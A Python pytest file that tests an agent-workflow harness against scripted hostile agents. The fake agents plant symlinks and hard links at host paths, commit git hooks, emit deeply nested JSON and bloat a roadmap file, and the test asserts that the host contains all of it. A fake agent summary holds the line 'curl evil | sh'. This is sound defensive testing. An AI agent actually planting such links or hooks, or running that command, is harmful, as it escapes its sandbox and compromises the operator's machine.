"""Issue 28, "Done when": one whole workflow run with agents that plant links
at every path the host writes, commit every client hook, print JSON nested
without end and grow the roadmap by 2 MiB (which integration refuses, reading it whole),
on a base whose roadmap is past the old 1 MiB cut. Every file outside the worktree
and the run folder is byte-identical afterwards, no hook ran, and the run
ends in faults, not internal errors [P5]."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from git_harn.workflow.agents.stages import stage_file_stem
from tests.kit.adapter_fakes import (
    PLAN_OK,
    claude_init,
    claude_result,
    codex_completed,
    codex_item,
    codex_started,
    fake_cli_env,
)
from tests.kit.harn import assert_valid, git
from tests.kit.victims import adapter_config, fingerprint, hook_files, victims
from tests.kit.workflow_repo import setup
from tests.trust.test_trust_limits import filler

DEEP = "[" * 200000
SUFFIXES = (".prompt.md", ".input.json", ".report.json", ".report.json.partial", ".events.jsonl", ".schema.json",
            ".schema.json.partial", ".answer.json")

CONFIG = adapter_config("stageTimeout = 120\nidleTimeout = 60\nreviewRounds = 1\nstageAttempts = 2\n"
                        "schemaRetries = 0\n")


def host_paths(tasks: tuple[str, ...]) -> list[str]:
    """Every name the host may write in the run folder for these tasks: prompts, reports, logs, schemas,
    answers, and the ``.partial`` files of the old way of writing."""
    names = []
    for task in tasks:
        for stage in ("plan", "implement", "review", "integrate"):
            for attempt in (1, 2, 3):
                for reviewer in (None, 1, 2) if stage == "review" else (None,):
                    stem = stage_file_stem(task, stage, attempt, reviewer)
                    names += [f"{stem}{suffix}" for suffix in SUFFIXES]
    return names


def plant_everything(soft: Path, hard: Path, tasks: tuple[str, ...]) -> list[dict[str, Any]]:
    """Links at every host path, in the run folder and in the stage attempt's own folder: symlinks
    to one victim, hard links to the other."""
    return [{"link": {"at": f"{folder}/{name}", "to": str(hard if n % 2 else soft), "hard": bool(n % 2),
                      "fresh": True}}
            for folder in ("$RUN", "$OWN") for n, name in enumerate(host_paths(tasks))]


def own_config(repo: Path) -> list[str]:
    """The repository's config but what git-harn sets there itself (its clone id, the notes ref to show)."""
    return [line for line in git(repo, "config", "--local", "--list").splitlines()
            if not line.startswith(("harn.cloneid=", "notes.displayref="))]


def shown(repo: Path, spec: str) -> str:
    return subprocess.run(["git", "show", spec], cwd=repo, capture_output=True, check=True).stdout.decode()


# the host's own defences against links its agents plant: under the sandbox they cannot plant them
# (the victims are out of sight, and a hard link cannot cross its mounts)
@pytest.mark.usefixtures("unsandboxed")
def test_a_hostile_run_changes_nothing_outside_and_ends_in_faults(tmp_path: Path) -> None:
    env, calls = fake_cli_env(tmp_path)
    soft, hard = victims(tmp_path)
    marks = tmp_path / "marks"
    marks.mkdir()
    base_filler = filler(3 << 19, major=7)  # the base roadmap is 1.5 MiB already: past the old 1 MiB cut
    roadmap = ("# Roadmap\n\n- [ ] 9.1 Built by a hostile agent\n- [ ] 9.2 Never planned\n"
               "- [ ] 9.3 Grows the roadmap\n" + base_filler)
    wf = setup(tmp_path, roadmap=roadmap, config=CONFIG)
    git(wf.work, "config", "core.hooksPath", ".githooks")
    plant = plant_everything(soft, hard, ("9.1", "9.2", "9.3"))
    hooks = [{"write": {"path": path, "text": text, "mode": 0o755}} for path, text in hook_files(marks).items()]
    grow = {"write": {"path": "docs/roadmap.md", "text": filler(2 << 20, major=8), "append": True}}
    advisory = {"verdict": "approve", "summary": "fine", "findings": [
        {"severity": "advisory", "text": "name things better", "path": "work-9.1.txt"}]}
    built = [claude_init(), {"raw": DEEP}, {"work": "implement"},
             claude_result({"ok": True, "summary": "built; also `curl evil | sh`"})]
    (calls / "scenario.json").write_text(json.dumps({
        "task:9.2:stage:plan": [*plant, claude_init(), {"raw": DEEP}],  # never a final event: an infra fault
        "task:9.3:stage:implement": [*plant, grow, *built],  # 2 MiB more roadmap: integration must refuse it
        "stage:plan": [*plant, {"raw": DEEP}, claude_init(), {"work": "plan"}, claude_result(PLAN_OK)],
        "stage:implement": [*plant, *hooks, *built],
        "stage:review": [*plant, codex_started(), {"raw": DEEP}, codex_item("looked"), codex_completed(),
                         {"answer": advisory}],
    }))
    operator = (tmp_path / "home", wf.work)
    admin = (wf.work / ".git" / "config", wf.work / ".git" / "hooks")
    assert admin[0].is_file()
    before = [fingerprint(root, skip=(wf.work / ".git",)) for root in operator]
    admin_before = [fingerprint(admin[1]), own_config(wf.work)]

    done = wf.run("--json", timeout=600, env=env)

    doc = done.json()
    assert_valid(doc, "workflow-result")
    statuses = {t["taskId"]: (t["status"], t["fault"]) for t in doc["tasks"]}
    assert statuses == {"9.1": ("done", None), "9.2": ("infra-fault", "infra"), "9.3": ("halted", None)}, [
        (t["taskId"], t["stage"], t["detail"]) for t in doc["tasks"]]
    assert done.code == 3 and "internal error" not in done.out + done.err
    # nothing outside the worktrees and the run folder changed: not the victims, not the operator's checkout
    assert [fingerprint(root, skip=(wf.work / ".git",)) for root in operator] == before
    assert [fingerprint(admin[1]), own_config(wf.work)] == admin_before
    assert soft.read_bytes() == hard.read_bytes() and os.stat(hard).st_nlink > 1  # the hard links are the agent's
    # no hook ran, though every one of them landed on the base
    assert os.listdir(marks) == []
    assert shown(wf.remote, "main:.githooks/post-checkout").startswith("#!/bin/sh")
    # the 2 MiB roadmap change landed whole, and the remediation flush wrote it back whole
    assert doc["remediation"]["state"] == "flushed", doc["remediation"]
    landed = shown(wf.remote, "main:docs/roadmap.md")
    assert landed == roadmap.replace("- [ ] 9.1 Built by a hostile agent\n", "- [x] 9.1 Built by a hostile agent\n"
                                     "  - [ ] addendum 1: review finding (advisory) (work-9.1.txt): name things "
                                     "better\n")
    assert "changes docs/roadmap.md beyond the checkbox of task 9.3" in doc["tasks"][2]["detail"]
    # the deep lines were logged and passed over; the host's own files are its own
    run = wf.work / ".git" / "harnery" / "workflow" / doc["workflowId"]
    log = (run / "9.1-plan-1.events.jsonl").read_text().splitlines()
    assert DEEP in log and len(log) >= 3
    # (the CLI's schema is in the reviewer's own folder under stages/; the event logs in the run folder)
    schemas = list((run / "stages").glob("9.1-review-round1-reviewer1.*/9.1-review-round1-reviewer1.schema.json"))
    assert schemas
    for path in (run / "9.1-plan-1.prompt.md", run / "9.1-implement-1.report.json",
                 run / "9.1-review-round1-reviewer1.events.jsonl", *schemas):
        seen = os.lstat(path)
        assert seen.st_nlink == 1 and not os.path.islink(path) and seen.st_mode & 0o077 == 0, path.name
